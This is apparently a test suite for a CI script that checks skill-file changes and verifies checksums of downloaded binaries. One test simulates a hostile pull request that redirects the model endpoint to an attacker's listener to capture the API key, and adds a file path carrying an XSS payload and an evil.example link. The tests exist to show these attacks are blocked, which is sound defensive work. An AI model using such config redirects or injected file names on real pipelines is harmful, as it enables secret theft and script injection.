import { describe, expect, setDefaultTimeout, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse } from "yaml";
import { sha256sums } from "../../build.ts";
import { REPO_ROOT } from "../support/cli.ts";
import { refusedUrl } from "../support/net.ts";
import { tempDir } from "../support/tmp.ts";
import { REAL_PROCESS_TIMEOUT_MS } from "../support/timeouts.ts";

// Real processes under four test workers (test/support/timeouts.ts).
setDefaultTimeout(REAL_PROCESS_TIMEOUT_MS);

// The quickstart's house conventions (seed 42) as the simulator reads them: removing stated rules
// is a real regression on those families' tasks, stating two more is a real gain.
const RULES = {
  date: "- Write dates as YYYY-MM-DD (ISO 8601).",
  rounding: "- Round numbers to three significant figures.",
  distance: "- Report distances in miles with one decimal, e.g. 7.7 mi.",
  currency: "- Write money as the number then the code, e.g. 1234.50 USD.",
  naming: "- Name identifiers in kebab-case.",
  list: "- List items in reverse alphabetical order (Z to A), comma-separated.",
};
const skill = (...rules: string[]) =>
  `---\nname: house\ndescription: How to answer reporting questions.\n---\n# House style\n\nAnswer with the value only.\n\n## Conventions\n${rules.join("\n")}\n`;
const OLD = skill(RULES.date, RULES.rounding, RULES.distance, RULES.currency);
const CHANGES = {
  harmful: skill(RULES.distance, RULES.currency),
  neutral: `${OLD}\nKeep answers short.\n`,
  helpful: skill(RULES.date, RULES.rounding, RULES.distance, RULES.currency, RULES.naming, RULES.list),
};
const SCRIPT = join(REPO_ROOT, "scripts", "skill-check.sh");
const SCRIPT_SETTINGS = [
  "SKILLOPT_BIN",
  "SKILLOPT_VERSION",
  "SKILLOPT_RELEASE_URL",
  "SKILLOPT_REPO",
  "SKILLOPT_ARGS",
  "SKILLOPT_FAIL_ON",
  "SKILLOPT_REPORT_DIR",
  "SKILLOPT_SKILLS",
  "GITHUB_STEP_SUMMARY",
  "RUNNER_TEMP",
];

function git(cwd: string, ...args: string[]): string {
  const r = Bun.spawnSync(["git", ...args], {
    cwd,
    stdout: "pipe",
    stderr: "pipe",
    env: {
      ...process.env,
      GIT_AUTHOR_NAME: "t",
      GIT_AUTHOR_EMAIL: "t@example.invalid",
      GIT_COMMITTER_NAME: "t",
      GIT_COMMITTER_EMAIL: "t@example.invalid",
    },
  });
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`);
  return r.stdout.toString();
}

/** A repository whose main holds the old skill, with one branch per change. */
function repoWithChanges(root: string): string {
  const repo = join(root, "repo");
  mkdirSync(join(repo, "skills", "house"), { recursive: true });
  git(repo, "init", "-q", "-b", "main");
  writeFileSync(join(repo, "skills", "house", "SKILL.md"), OLD);
  writeFileSync(join(repo, "README.md"), "a project\n");
  git(repo, "add", "-A");
  git(repo, "commit", "-qm", "base");
  for (const [name, text] of Object.entries(CHANGES)) {
    git(repo, "checkout", "-qb", name, "main");
    writeFileSync(join(repo, "skills", "house", "SKILL.md"), text);
    git(repo, "commit", "-qam", name);
  }
  git(repo, "checkout", "-qb", "docs-only", "main");
  writeFileSync(join(repo, "README.md"), "a project, documented\n");
  git(repo, "commit", "-qam", "docs");
  return repo;
}

/** A stand-in for the release binary: runs this checkout's CLI, and leaves a mark when it runs. */
function wrapper(dir: string): { path: string; ran: string } {
  const path = join(dir, "skillopt-wrapper");
  const ran = join(dir, "wrapper-ran");
  // With SKILLOPT_BIN set (the e2e run against a compiled binary), the stand-in runs that binary.
  const cli = process.env.SKILLOPT_BIN
    ? `'${process.env.SKILLOPT_BIN}'`
    : `'${process.execPath}' '${join(REPO_ROOT, "src", "main.ts")}'`;
  writeFileSync(path, `#!/bin/sh\ntouch '${ran}'\nexec ${cli} "$@"\n`);
  chmodSync(path, 0o755);
  return { path, ran };
}

async function runCheck(repo: string, branch: string, env: Record<string, string>) {
  git(repo, "checkout", "-q", branch);
  const summary = join(repo, "..", `summary-${branch}-${Bun.hash(JSON.stringify(env))}.md`);
  // The script's own settings come only from the test (not from the environment the suite runs in).
  const inherited = Object.fromEntries(Object.entries(process.env).filter(([k]) => !SCRIPT_SETTINGS.includes(k)));
  const proc = Bun.spawn(["bash", SCRIPT], {
    cwd: repo,
    env: {
      ...inherited,
      NO_COLOR: "1",
      SKILLOPT_CONFIG: "quickstart",
      SKILLOPT_BASE_REF: "main",
      SKILLOPT_SKILLS: "skills/**/SKILL.md",
      GITHUB_STEP_SUMMARY: summary,
      ...env,
    },
    stdout: "pipe",
    stderr: "pipe",
  });
  const [stdout, stderr, code] = await Promise.all([
    new Response(proc.stdout).text(),
    new Response(proc.stderr).text(),
    proc.exited,
  ]);
  return { code, stdout, stderr, summary: existsSync(summary) ? readFileSync(summary, "utf8") : "" };
}

function hostAsset(): string {
  const os = process.platform === "darwin" ? "darwin" : "linux";
  return `skillopt-${os}-${process.arch === "arm64" ? "arm64" : "x64"}`;
}

/** A fake release on 127.0.0.1: the asset and a SHA256SUMS (right, or naming other bytes). */
function release(asset: Uint8Array, sums: string) {
  const requests: string[] = [];
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(req) {
      const path = new URL(req.url).pathname;
      requests.push(path);
      if (path === "/v9.9.9/SHA256SUMS") return new Response(sums);
      if (path === `/v9.9.9/${hostAsset()}`) return new Response(new Blob([asset as Uint8Array<ArrayBuffer>]));
      return new Response("not found", { status: 404 });
    },
  });
  return { url: `http://127.0.0.1:${server.port}/v9.9.9`, requests, [Symbol.dispose]: () => server.stop(true) };
}

describe("scripts/skill-check.sh (the action's step, run locally)", () => {
  // Own timeout: the action's script runs three checks, each training and evaluating through skillopt processes (under a second idle, about two with both cores busy).
  test("harmful fails with the regressed tasks, neutral passes undecided, helpful passes with the gain", async () => {
    using dir = tempDir();
    const repo = repoWithChanges(dir.path);
    const bin = wrapper(dir.path);
    const env = { SKILLOPT_BIN: bin.path, SKILLOPT_CACHE_DIR: join(dir.path, "cache") };
    const harmful = await runCheck(repo, "harmful", env);
    expect(harmful.code).toBe(1);
    expect(harmful.summary).toContain("### SkillOpt check: `skills/house/SKILL.md` — REGRESSED");
    expect(harmful.summary).toContain("| baseline (main) | candidate |");
    expect(harmful.summary).toMatch(/Regressed tasks \(\d+\)/);
    expect(harmful.summary).toMatch(/\| [a-z]+-\d{3}-(date|rounding) \| (date|rounding) \| 1\.000 \| 0\.000 \|/);
    const neutral = await runCheck(repo, "neutral", env);
    expect(neutral.code).toBe(0);
    expect(neutral.summary).toContain("— UNDECIDED");
    const strict = await runCheck(repo, "neutral", { ...env, SKILLOPT_FAIL_ON: "undecided" });
    expect(strict.code).toBe(1);
    const reports = join(dir.path, "reports");
    const helpful = await runCheck(repo, "helpful", { ...env, SKILLOPT_REPORT_DIR: reports });
    expect(helpful.code).toBe(0);
    const kept = JSON.parse(readFileSync(join(reports, "check-1", "skill_check.json"), "utf8"));
    expect({ verdict: kept.verdict, title: kept.title, baseline_label: kept.baseline_label }).toEqual({
      verdict: "improved",
      title: "skills/house/SKILL.md",
      baseline_label: "main",
    });
    expect(helpful.summary).toContain("— IMPROVED");
    expect(helpful.summary).toMatch(/\*\*Verdict: improved\.\*\* Δ \+\d+\.\d pts \[\+\d+\.\d, /);
  }, 60_000);

  test("downloads the pinned release binary, verifies its SHA-256 and runs it", async () => {
    using dir = tempDir();
    const repo = repoWithChanges(dir.path);
    const bin = wrapper(dir.path);
    const bytes = new Uint8Array(readFileSync(bin.path));
    using rel = release(
      bytes,
      sha256sums([
        { name: hostAsset(), bytes },
        { name: "skillopt-windows-x64.exe", bytes: new Uint8Array([1]) },
      ]),
    );
    const r = await runCheck(repo, "helpful", {
      SKILLOPT_VERSION: "v9.9.9",
      SKILLOPT_RELEASE_URL: rel.url,
      SKILLOPT_CACHE_DIR: join(dir.path, "cache"),
    });
    expect(r.stderr).toContain(`${hostAsset()} v9.9.9 verified`);
    expect(r.code).toBe(0);
    expect(rel.requests).toEqual(["/v9.9.9/SHA256SUMS", `/v9.9.9/${hostAsset()}`]);
    expect(existsSync(bin.ran)).toBe(true);
    expect(r.summary).toContain("— IMPROVED");
  });

  test("a binary whose checksum does not match is never run", async () => {
    using dir = tempDir();
    const repo = repoWithChanges(dir.path);
    const bin = wrapper(dir.path);
    const bytes = new Uint8Array(readFileSync(bin.path));
    const other = new TextEncoder().encode("#!/bin/sh\necho tampered\n");
    using rel = release(bytes, sha256sums([{ name: hostAsset(), bytes: other }]));
    const r = await runCheck(repo, "harmful", { SKILLOPT_VERSION: "v9.9.9", SKILLOPT_RELEASE_URL: rel.url });
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`checksum mismatch for ${hostAsset()}`);
    expect(r.stderr).toContain("refusing to run it");
    expect(existsSync(bin.ran)).toBe(false);
    using unlisted = release(bytes, sha256sums([{ name: "skillopt-windows-x64.exe", bytes }]));
    const r2 = await runCheck(repo, "harmful", { SKILLOPT_VERSION: "v9.9.9", SKILLOPT_RELEASE_URL: unlisted.url });
    expect(r2.code).toBe(1);
    expect(r2.stderr).toContain(`lists no ${hostAsset()}: refusing to run an unverified binary`);
    expect(existsSync(bin.ran)).toBe(false);
  });

  test("no changed skill is a pass that says so; missing settings are one-line usage errors", async () => {
    using dir = tempDir();
    const repo = repoWithChanges(dir.path);
    const bin = wrapper(dir.path);
    const none = await runCheck(repo, "docs-only", { SKILLOPT_BIN: bin.path });
    expect(none.code).toBe(0);
    expect(none.summary).toContain("no skill file changed against main");
    expect(existsSync(bin.ran)).toBe(false);
    const noConfig = await runCheck(repo, "harmful", { SKILLOPT_BIN: bin.path, SKILLOPT_CONFIG: "" });
    expect({ code: noConfig.code, err: noConfig.stderr.trim() }).toEqual({
      code: 2,
      err: "skill-check: SKILLOPT_CONFIG (input config) is empty: name a bundled config or a config file",
    });
    const badBase = await runCheck(repo, "harmful", { SKILLOPT_BIN: bin.path, SKILLOPT_BASE_REF: "origin/nope" });
    expect(badBase.code).toBe(2);
    expect(badBase.stderr).toContain("base ref origin/nope is not in this clone");
    const noVersion = await runCheck(repo, "harmful", {});
    expect(noVersion.code).toBe(2);
    expect(noVersion.stderr).toContain("SKILLOPT_VERSION (input version) is empty");
  });

  test("a check that got no answer gives no verdict: the job fails and the summary shows why", async () => {
    using dir = tempDir();
    const repo = repoWithChanges(dir.path);
    const bin = wrapper(dir.path);
    const url = await refusedUrl();
    const args = `--no-cache --set model.target_backend=openai_compatible --set model.openai_compatible_base_url=${url} --set model.target=target-model`;
    const r = await runCheck(repo, "helpful", {
      SKILLOPT_BIN: bin.path,
      SKILLOPT_ARGS: args,
      OPENAI_COMPATIBLE_API_KEY: "sk-fake-0000",
    });
    expect(r.code).toBe(1);
    expect(r.summary).toContain("### SkillOpt check: `skills/house/SKILL.md` — no verdict");
    expect(r.summary).toContain("127.0.0.1");
    expect(r.summary).not.toContain("IMPROVED");
  });

  test("attacker: a PR edits the config to send the key to its host and adds a file named like HTML", async () => {
    using dir = tempDir();
    const repo = join(dir.path, "repo");
    mkdirSync(join(repo, "skills", "house"), { recursive: true });
    git(repo, "init", "-q", "-b", "main");
    // The base branch's eval config: the quickstart on the simulator, small.
    const quickstart = readFileSync(join(REPO_ROOT, "configs", "quickstart", "default.yaml"), "utf8");
    const base = quickstart.replace(/^_base_:.*$/m, "").replace(/^ {2}backend: auto$/m, "  backend: sim");
    writeFileSync(join(repo, "skillopt.yaml"), base);
    writeFileSync(join(repo, "skills", "house", "SKILL.md"), OLD);
    git(repo, "add", "-A");
    git(repo, "commit", "-qm", "base");
    // The pull request: a better skill, a config that points the model at the author's listener,
    // and a new skill whose folder name is Markdown and HTML.
    const seen: string[] = [];
    const listener = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      fetch(req) {
        seen.push(`${req.method} ${new URL(req.url).pathname} ${req.headers.get("authorization") ?? ""}`);
        return new Response("{}", { status: 401 });
      },
    });
    try {
      git(repo, "checkout", "-qb", "hostile", "main");
      writeFileSync(join(repo, "skills", "house", "SKILL.md"), CHANGES.helpful);
      writeFileSync(
        join(repo, "skillopt.yaml"),
        base.replace(
          "  backend: sim",
          `  backend: openai_compatible\n  openai_compatible_base_url: http://127.0.0.1:${listener.port}/v1`,
        ),
      );
      const evil = "skills/x`<img src=x onerror=alert(1)>|[a](http://evil.example)/SKILL.md";
      mkdirSync(join(repo, evil, ".."), { recursive: true });
      writeFileSync(join(repo, evil), OLD);
      git(repo, "add", "-A");
      git(repo, "commit", "-qm", "hostile");
      const bin = wrapper(dir.path);
      const r = await runCheck(repo, "hostile", {
        SKILLOPT_BIN: bin.path,
        SKILLOPT_CONFIG: "skillopt.yaml",
        SKILLOPT_CACHE_DIR: join(dir.path, "cache"),
        OPENAI_COMPATIBLE_API_KEY: "sk-job-secret-0123456789abcdef",
      });
      // The check ran with the base branch's config: on the simulator, never calling the listener.
      expect(seen).toEqual([]);
      expect(r.summary).toContain("### SkillOpt check: `skills/house/SKILL.md` — IMPROVED");
      expect(r.code).toBe(0);
      // The hostile name is shown as inert text.
      expect(r.summary).not.toContain("<img");
      expect(r.summary).not.toContain("](http");
      expect(r.summary).toContain(
        "### SkillOpt check: <code>skills/x&#96;&#60;img src&#61;x onerror&#61;alert&#40;1&#41;&#62;",
      );
      expect(r.summary).toContain("— new file");
    } finally {
      listener.stop(true);
    }
  });

  test("action.yml is a composite action of plain bash steps that runs this script with every input", () => {
    const action = parse(readFileSync(join(REPO_ROOT, "action.yml"), "utf8")) as {
      inputs: Record<string, { required?: boolean; default?: string }>;
      runs: { using: string; steps: Array<Record<string, unknown>> };
    };
    expect(action.runs.using).toBe("composite");
    for (const step of action.runs.steps) {
      expect(step.uses).toBeUndefined();
      expect(step.shell).toBe("bash");
    }
    const step = action.runs.steps[0]!;
    expect(step.run).toBe('bash "$GITHUB_ACTION_PATH/scripts/skill-check.sh"');
    const env = step.env as Record<string, string>;
    for (const input of Object.keys(action.inputs)) {
      expect({ input, passed: Object.values(env).some((v) => v.includes(`inputs.${input}`)) }).toEqual({
        input,
        passed: true,
      });
    }
    // Each setting the script reads from an input is one the action sets.
    const script = readFileSync(SCRIPT, "utf8");
    for (const name of Object.keys(env)) expect({ name, read: script.includes(name) }).toEqual({ name, read: true });
    expect(
      Object.entries(action.inputs)
        .filter(([, v]) => v.required)
        .map(([k]) => k)
        .sort(),
    ).toEqual(["config", "version"]);
  });
});
